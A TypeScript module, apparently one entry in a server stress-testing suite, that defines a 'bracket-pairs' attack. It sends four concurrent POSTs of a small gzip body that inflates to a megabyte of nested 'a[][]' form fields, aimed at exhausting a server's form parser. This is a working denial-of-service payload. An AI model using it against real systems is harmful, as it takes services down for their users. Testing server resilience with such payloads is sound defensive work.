import { gzipSync } from 'node:zlib';
import type { Attack } from '../attack.ts';
import { sendMany } from '../sending.ts';

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Encoding': 'gzip' };

/** A megabyte of the shortest bracketed names there are: 3 KB of gzip, from anybody. */
const body = gzipSync('a[][]&'.repeat(170_000));

export const bracketPairs: Attack = {
  name: 'bracket-pairs',
  row: 'form of a[][], 3 KB of gzip, four at once',
  async run(victim) {
    await sendMany(victim, 4, { method: 'POST', path: '/me', headers: FORM, body });
    return undefined;
  },
};
